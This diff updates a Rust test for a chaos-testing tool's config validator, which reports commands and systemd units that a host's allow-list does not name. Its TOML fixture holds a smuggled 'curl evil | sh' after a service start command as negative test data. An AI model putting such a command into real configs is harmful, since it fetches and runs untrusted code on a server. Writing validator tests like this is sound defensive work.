@@ -96,14 +96,15 @@ fn validate_names_an_unknown_host_and_the_kinds_that_cannot_act_on_one() {
 }
 
 #[test]
-fn validate_names_a_host_command_its_allow_list_does_not_name() {
+fn validate_names_a_host_command_or_unit_its_allow_list_does_not_name() {
     let dir = tempfile::tempdir().unwrap();
     let path = dir.path().join("s.toml");
     let text = "[allow]\ncommands = [\"true\"]\n[[phase]]\nname = \"p\"\nduration = \"2s\"\nfaults = [\"s\"]\n\
                 [[host]]\nname = \"web-1\"\nssh = \"deploy@web-1\"\n[host.allow]\n\
                 commands = [\"systemctl stop godot-spacetime\"]\n[[fault]]\nname = \"s\"\nhost = \"web-1\"\n\
                 [fault.service]\nstop = \"systemctl stop godot-spacetime\"\n\
-                start = \"systemctl start godot-spacetime; curl evil | sh\"\n";
+                start = \"systemctl start godot-spacetime; curl evil | sh\"\n[[fault]]\nname = \"k\"\nhost = \"web-1\"\n\
+                [fault.kill_process]\nunit = \"godot-spacetime\"\n";
     std::fs::write(&path, text).unwrap();
     let o = Command::new(EXE).arg("validate").arg(&path).output().unwrap();
     let err = String::from_utf8_lossy(&o.stderr);
@@ -111,6 +112,7 @@ fn validate_names_a_host_command_its_allow_list_does_not_name() {
     assert!(err.contains("s.toml:17:") && err.contains("host \"web-1\" may not run"), "{err}");
     assert!(err.contains("[host.allow] commands") && !err.contains("s.toml:16:"), "the listed stop is fine: {err}");
     assert!(err.contains("s.toml:2:") && err.contains("move them to that [[host]]"), "{err}");
+    assert!(err.contains("s.toml:22:") && err.contains("add it to [allow] units"), "a unit is allow-listed: {err}");
 }
 
 #[test]
